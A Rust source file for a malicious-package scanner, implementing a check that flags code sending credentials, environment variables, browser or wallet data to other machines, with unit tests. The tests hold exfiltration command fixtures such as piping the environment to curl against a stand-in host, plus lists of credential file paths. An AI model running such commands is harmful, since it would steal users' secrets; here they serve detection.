//! Refuses code that sends secrets to other machines.

use std::collections::BTreeSet;

use Severity::{High, Low, Medium};
use spip_core::{
    Act, Check, Contents, Context, Deed, Finding, Package, Severity, Stop, Taints, Trigger,
};

use crate::contents::{
    self, Address, Menace, NOTHING, Suspicions, addresses, belongs, belongs_to_any, commands,
    endpoint, goes_to_a_drop, is_early, opens_doors, secret, takes_uploads, weigh,
};

describe! {
    /// ## What it asks
    ///
    /// Do secrets reach the network: keys and tokens in files, the whole environment, browser
    /// profiles, wallets, a cloud's metadata, the caller's source, files found by walking through a
    /// home? Does code that runs unasked tell another machine who and where it runs? Does it collect secrets and send something, even where
    /// no flow shows?
    ///
    /// A client that reads its own service's credentials and talks to that service is
    /// ordinary; so is an API key that goes where its user points.
    ///
    /// ## Why it matters
    ///
    /// Stolen credentials are what most malicious packages are after, and what the next attack is made of.
    ///
    /// ## What to do
    ///
    /// Do not install it. Where it ran, replace every secret that it could read.
    pub(super) struct SecretExfiltration {
        id: "secret-exfiltration",
        summary: "code sends secrets to other machines",
        worst: High,
        needs: Contents,
    }
}

/// Secrets that no client sends by the way. Keyboard, screen and clipboard are the business of
/// `surveillance`.
const STRONG: Taints = Taints(
    Taints::SECRET_FILE.0
        | Taints::BROWSER.0
        | Taints::WALLET.0
        | Taints::CLOUD_METADATA.0
        | Taints::CALLER_SOURCE.0
        | Taints::ENVIRONMENT.0,
);

/// Secrets that are of no use to any service, except to thieves.
const PRIVATE: Taints = Taints(Taints::BROWSER.0 | Taints::WALLET.0 | Taints::CALLER_SOURCE.0);

/// Kinds of secret files that belong to nobody else.
const NEVER_SENT: &[&str] = &[
    "ssh",
    "gnupg",
    "passwords",
    "history",
    "keychain",
    "browser",
    "chat",
    "wallet",
];

/// Kinds of secret files that are sent to their own service only.
const OWN_SERVICE: &[&str] = &[
    "aws",
    "gcloud",
    "azure",
    "kubernetes",
    "docker",
    "git",
    "pypi",
    "npm",
];

impl Check for SecretExfiltration {
    fn run(
        &self,
        package: &Package,
        cx: &Context<'_>,
        found: &mut Vec<Finding>,
    ) -> Result<(), Stop> {
        let contents = contents::read(package, cx)?;
        let mut suspicions = Suspicions::default();
        for act in contents.acts_of(Deed::Send) {
            let severity = sent(&contents, act);
            suspicions.act(severity, what(act.taints), act);
        }
        for command in commands(&contents) {
            let menaces = command.menaces();
            if menaces.contains(&Menace::SendsSecrets) || hands_over(&command) {
                let severity = weigh(command.trigger, High, Medium);
                suspicions.command(severity, "sends secrets to another machine", &command);
            } else if menaces.contains(&Menace::SendsIdentity) || tells_who(&command) {
                let severity = weigh(command.trigger, High, Low);
                suspicions.command(
                    severity,
                    "tells another machine who and where it runs",
                    &command,
                );
            }
        }
        beside(&contents, &mut suspicions);
        suspicions.report(
            "do not install it; where it ran, replace every secret it could read",
            found,
        );
        Ok(())
    }
}

/// Files found by walking through a home: nobody knows what is in them.
const PERSONAL: Taints = Taints(Taints::FILE.0 | Taints::FILE_LISTING.0 | Taints::HOME.0);

fn what(taints: Taints) -> &'static str {
    if taints.any(STRONG.with(Taints::SECRET_VARIABLE)) {
        return "sends secrets to another machine";
    }
    if taints.all(PERSONAL) {
        return "sends files of the home directory to another machine";
    }
    "tells another machine who and where it runs"
}

/// What a call that sends tells by itself.
fn sent(contents: &Contents, act: &Act) -> Option<Severity> {
    let addresses = addresses(act);
    let is_at_home = !addresses.is_empty() && addresses.iter().all(Address::is_local);
    if is_at_home {
        return None;
    }
    let strong = act.taints.only(STRONG);
    if !is_early(act.trigger) {
        let severity = sent_on_use(contents, act, &addresses);
        return weigh(
            act.trigger,
            if strong.is_empty() {
                NOTHING
            } else {
                Some(High)
            },
            severity,
        );
    }
    if !strong.is_empty() {
        return Some(High);
    }
    if act.taints.any(Taints::SECRET_VARIABLE) {
        let is_own = !addresses.is_empty() && addresses.iter().all(belongs_to_any);
        return Some(if is_own { Medium } else { High });
    }
    if act.taints.all(PERSONAL) {
        return Some(High);
    }
    if act.taints.any(Taints::IDENTITY) && !writes_a_file(act) {
        return Some(High);
    }
    act.taints.any(Taints::PLATFORM).then_some(Low)
}

/// Whether one of its arguments is the file that an answer is written to.
fn writes_a_file(act: &Act) -> bool {
    let callee = act.callee.to_ascii_lowercase();
    [
        "urlretrieve",
        "wget.download",
        "download_file",
        "retrbinary",
    ]
    .iter()
    .any(|it| callee.contains(it))
}

fn sent_on_use(contents: &Contents, act: &Act, addresses: &[Address]) -> Option<Severity> {
    let strong = act.taints.only(STRONG);
    if strong.is_empty() {
        return other_sent_on_use(contents, act, addresses);
    }
    let is_hidden = addresses.is_empty() && act.taints.any(Taints::ASSEMBLED.with(Taints::DECODED));
    let is_mail = act.callee.contains("smtplib") || act.callee.contains("ftplib");
    let is_drop = goes_to_a_drop(act);
    let is_foreign = addresses.iter().any(Address::is_foreign) || is_hidden || is_mail || is_drop;
    let is_shady = addresses
        .iter()
        .filter_map(endpoint)
        .any(contents::Endpoint::is_shady);
    let is_open = act.taints.any(Taints::PARAMETER);
    if is_shady {
        return Some(if is_open { Medium } else { High });
    }
    if !is_foreign {
        let is_private = strong.any(PRIVATE) && !is_open;
        return is_private.then_some(Low);
    }
    let kinds = kinds(contents, &act.site.member);
    let is_own = !is_drop
        && !addresses.is_empty()
        && addresses
            .iter()
            .all(|it| is_own(it, &kinds) && !takes_uploads(it));
    if is_own && !strong.any(PRIVATE) {
        return None;
    }
    let several = strong.0.count_ones() >= 2 || kinds.len() >= 3;
    let is_theft = several && (strong.any(PRIVATE) || kinds.len() >= 3);
    match () {
        () if is_theft && !is_open => Some(High),
        () if is_theft || several && !is_open => Some(Medium),
        () if strong.any(PRIVATE) => Some(if is_open { Low } else { Medium }),
        () if strong.any(Taints::SECRET_FILE) => Some(file_sent(&kinds, is_open)),
        () if is_open => strong.any(Taints::ENVIRONMENT).then_some(Low),
        () => Some(Medium),
    }
}

/// What is no secret by its place: files of the home, and tokens that publish or rent machines.
fn other_sent_on_use(contents: &Contents, act: &Act, addresses: &[Address]) -> Option<Severity> {
    let is_abroad = addresses.iter().any(Address::is_foreign) || goes_to_a_drop(act);
    let is_open = act.taints.any(Taints::PARAMETER);
    if !is_abroad || is_open {
        return None;
    }
    if act.taints.all(PERSONAL) {
        return Some(Medium);
    }
    let is_theirs = addresses.iter().any(belongs_to_any);
    let takes_keys = act.taints.any(Taints::SECRET_VARIABLE)
        && contents.acts_of(Deed::Read).any(|read| {
            read.site.member == act.site.member && read.texts.iter().any(|it| opens_doors(it))
        });
    (takes_keys && !is_theirs).then_some(Medium)
}

/// Secrets in one file that go to an address in the code.
fn file_sent(kinds: &BTreeSet<&'static str>, is_open: bool) -> Severity {
    let any = |of: &[&str]| kinds.iter().any(|kind| of.contains(kind));
    if any(NEVER_SENT) || any(OWN_SERVICE) && !is_open {
        return Medium;
    }
    Low
}

/// Whether these secrets are meant for that host: one of their own service, or of some cloud.
fn is_own(address: &Address, kinds: &BTreeSet<&'static str>) -> bool {
    match kinds.len() {
        0 => belongs_to_any(address),
        _ => kinds.iter().any(|kind| belongs(kind, address)),
    }
}

/// The kinds of secrets that a file of the package reads.
fn kinds(contents: &Contents, member: &str) -> BTreeSet<&'static str> {
    let reads = contents
        .acts_of(Deed::Read)
        .filter(|act| act.site.member == member);
    reads
        .flat_map(|act| &act.texts)
        .filter_map(|text| secret(text))
        .collect()
}

/// Whether a program that talks to other machines, or asks for names, is told who and where it runs.
fn tells_who(command: &contents::Command<'_>) -> bool {
    let mut programs = command.steps.iter().map(|step| step.program.as_str());
    let is_told = command.taints.any(Taints::IDENTITY) && !command.taints.any(Taints::PARAMETER);
    is_told && programs.any(|it| contents::is_lookup(it) || contents::is_client(it))
}

/// Whether a program that talks to other machines is handed secrets.
fn hands_over(command: &contents::Command<'_>) -> bool {
    let is_client = command
        .steps
        .iter()
        .any(|step| contents::is_client(&step.program));
    let is_lookup = command
        .steps
        .iter()
        .any(|step| contents::is_lookup(&step.program));
    let is_secret = command.taints.any(STRONG.with(Taints::SECRET_VARIABLE));
    (is_client || is_lookup) && is_secret || is_client && command.taints.all(PERSONAL)
}

/// Secrets that are read and data that is sent in one file, where no flow between them shows.
fn beside<'c>(contents: &'c Contents, suspicions: &mut Suspicions<'c>) {
    let members: BTreeSet<&str> = contents
        .acts_of(Deed::Read)
        .map(|act| act.site.member.as_str())
        .collect();
    for member in members {
        let of = |deed: Deed| {
            contents
                .acts_of(deed)
                .filter(move |act| act.site.member == member)
        };
        let sends: Vec<_> = of(Deed::Send)
            .filter(|act| {
                let addresses = addresses(act);
                addresses.is_empty()
                    || !addresses
                        .iter()
                        .all(|it| it.is_local() || belongs_to_any(it))
            })
            .collect();
        if sends.iter().any(|act| sent(contents, act) >= Some(Medium)) {
            continue;
        }
        let handing: Vec<_> = commands(contents)
            .into_iter()
            .filter(|command| command.site.member == member && command.sends_abroad())
            .collect();
        let sends_early = sends.iter().any(|act| is_early(act.trigger))
            || handing.iter().any(|command| is_early(command.trigger));
        let sends_abroad = sends
            .iter()
            .any(|act| addresses(act).iter().any(Address::is_foreign));
        let kinds = kinds(contents, member).len();
        // What a program sends away is not seen; two kinds of secrets beside it are no accident.
        let kinds = if handing.is_empty() { kinds } else { kinds + 2 };
        let sends_abroad = sends_abroad || !handing.is_empty();
        for act in of(Deed::Read) {
            let (severity, what) = match act.trigger {
                Trigger::Never => continue,
                Trigger::Call => (
                    collected(kinds, sends_abroad),
                    "collects secrets of many kinds and sends data",
                ),
                _ if sends_early => (read_and_sent(act), "reads secrets and sends data"),
                _ => (read(act, kinds), "reads secrets unasked"),
            };
            suspicions.act(severity, what, act);
        }
    }
}

fn collected(kinds: usize, sends_abroad: bool) -> Option<Severity> {
    (kinds >= 4 && sends_abroad).then_some(Medium)
}

fn read_and_sent(act: &Act) -> Option<Severity> {
    let taints = act.taints;
    if taints.any(STRONG.without(Taints::ENVIRONMENT)) {
        return Some(High);
    }
    let is_build = act.trigger == Trigger::Build;
    taints
        .any(Taints::ENVIRONMENT.with(Taints::SECRET_VARIABLE))
        .then_some(if is_build { Low } else { Medium })
}

fn read(act: &Act, kinds: usize) -> Option<Severity> {
    // What called is looked at for messages and deprecations all the time.
    let strong = STRONG
        .without(Taints::ENVIRONMENT)
        .without(Taints::CALLER_SOURCE);
    if !act.taints.any(strong) {
        return None;
    }
    Some(match kinds {
        0..=1 => Low,
        2 => Medium,
        _ => High,
    })
}

#[cfg(test)]
mod tests {
    use spip_core::{Deed, Taints, Trigger};

    use super::SecretExfiltration;
    use crate::testing::{ActBuilder, World, act, assert_shows, demo};

    const FOREIGN: &str = "https://collector.invalid/x";

    fn post(url: &str, taints: Taints) -> ActBuilder {
        act(Deed::Send, "requests.post")
            .texts(&[url])
            .tainted(taints)
    }

    fn read(path: &str) -> ActBuilder {
        act(Deed::Read, "open")
            .texts(&[path])
            .tainted(Taints::SECRET_FILE)
    }

    fn reading(paths: &[&str], trigger: Trigger) -> World {
        paths
            .iter()
            .fold(demo(), |world, path| world.acting(read(path).when(trigger)))
    }

    #[test]
    fn flags_secrets_that_are_sent_unasked() {
        for taints in [
            Taints::SECRET_FILE,
            Taints::ENVIRONMENT,
            Taints::BROWSER,
            Taints::WALLET,
            Taints::CLOUD_METADATA,
            Taints::SECRET_VARIABLE,
            Taints::CALLER_SOURCE,
        ] {
            let expected = "high: sends secrets to another machine, when it is imported";
            assert_shows(
                &SecretExfiltration,
                demo().acting(post(FOREIGN, taints)),
                expected,
            );
            assert_shows(
                &SecretExfiltration,
                demo().acting(post("\u{fffc}", taints)),
                expected,
            );
        }
    }

    #[test]
    fn flags_who_and_where_when_it_is_told_unasked() {
        let world = demo().acting(post(FOREIGN, Taints::IDENTITY).when(Trigger::Build));
        assert_shows(
            &SecretExfiltration,
            world,
            "high: tells another machine who and where it runs, when it is built",
        );
        let world = demo().acting(post(FOREIGN, Taints::PLATFORM));
        assert_shows(
            &SecretExfiltration,
            world,
            "low: tells another machine who and where it runs, when it is imported",
        );
        let told = act(Deed::Spawn, "os.system").texts(&["curl http://h.invalid/$(hostname)"]);
        assert_shows(
            &SecretExfiltration,
            demo().acting(told),
            "high: tells another machine who and where it runs, when it is imported",
        );
    }

    #[test]
    fn flags_secrets_sent_on_use_where_no_client_would() {
        let call = Trigger::Call;
        let medium = "medium: sends secrets to another machine, when it is used";
        let high = "high: sends secrets to another machine, when it is used";
        let sweep = ["~/.aws/credentials", "~/.npmrc", "~/.kube/config"];
        for (paths, url, taints, expected) in [
            (&["~/.ssh/id_rsa"][..], FOREIGN, Taints::SECRET_FILE, medium),
            (
                &["~/.aws/credentials"],
                FOREIGN,
                Taints::SECRET_FILE,
                medium,
            ),
            (&sweep, FOREIGN, Taints::SECRET_FILE, high),
            (
                &["~/.netrc"],
                "https://x.oast.fun",
                Taints::SECRET_FILE,
                high,
            ),
            (&["Chrome/User Data/x"], FOREIGN, Taints::BROWSER, medium),
            (
                &["~/.ssh/id_rsa"],
                FOREIGN,
                Taints::BROWSER.with(Taints::WALLET),
                high,
            ),
            (&[], FOREIGN, Taints::ENVIRONMENT, medium),
        ] {
            let world = reading(paths, call).acting(post(url, taints).when(call));
            assert_shows(&SecretExfiltration, world, expected);
        }
    }

    #[test]
    fn flags_programs_that_are_handed_secrets() {
        let expected = "high: sends secrets to another machine, when it is imported";
        let curl = act(Deed::Spawn, "subprocess.run").texts(&["curl -d \u{fffc} http://h.invalid"]);
        assert_shows(
            &SecretExfiltration,
            demo().acting(curl.tainted(Taints::SECRET_FILE)),
            expected,
        );
        let shell = act(Deed::Spawn, "os.system").texts(&["env | curl -d @- http://h.invalid"]);
        assert_shows(&SecretExfiltration, demo().acting(shell), expected);
    }

    #[test]
    fn flags_reading_beside_sending_unasked() {
        let world =
            reading(&["~/.ssh/id_rsa"], Trigger::Import).acting(post(FOREIGN, Taints::NONE));
        assert_shows(
            &SecretExfiltration,
            world,
            "high: reads secrets and sends data, when it is imported",
        );
        let world = reading(&["~/.ssh/id_rsa", "~/.npmrc", "~/.pypirc"], Trigger::Import);
        assert_shows(
            &SecretExfiltration,
            world,
            "high: reads secrets unasked, when it is imported",
        );
    }

    #[test]
    fn accepts_clients_of_clouds_and_services() {
        let call = Trigger::Call;
        for (path, url) in [
            (
                "~/.config/gcloud/application_default_credentials.json",
                "https://oauth2.googleapis.com/token",
            ),
            ("~/.aws/credentials", "https://sts.amazonaws.com"),
            ("~/.aws/credentials", "\u{fffc}"),
            ("~/.pypirc", "https://upload.pypi.org/legacy/"),
            ("~/.kube/config", "https://\u{fffc}/api"),
        ] {
            let taints = Taints::SECRET_FILE.with(Taints::CLOUD_METADATA);
            let world = reading(&[path], call).acting(post(url, taints).when(call));
            assert_shows(&SecretExfiltration, world, "complete");
        }
        let key = post(FOREIGN, Taints::SECRET_VARIABLE).when(call);
        let metadata = post("http://169.254.169.254/latest", Taints::CLOUD_METADATA);
        assert_shows(
            &SecretExfiltration,
            demo().acting(key).acting(metadata),
            "complete",
        );
        let download = act(Deed::Send, "urllib.request.urlretrieve")
            .texts(&[FOREIGN])
            .tainted(Taints::IDENTITY)
            .when(Trigger::Build);
        assert_shows(&SecretExfiltration, demo().acting(download), "complete");
        let compiler = act(Deed::Spawn, "subprocess.run")
            .texts(&["gcc x.c"])
            .tainted(Taints::ENVIRONMENT);
        assert_shows(&SecretExfiltration, demo().acting(compiler), "complete");
    }

    #[test]
    fn leaves_a_gap_when_the_files_cannot_be_read() {
        assert_shows(&SecretExfiltration, demo().offline(), "incomplete: offline");
    }
}
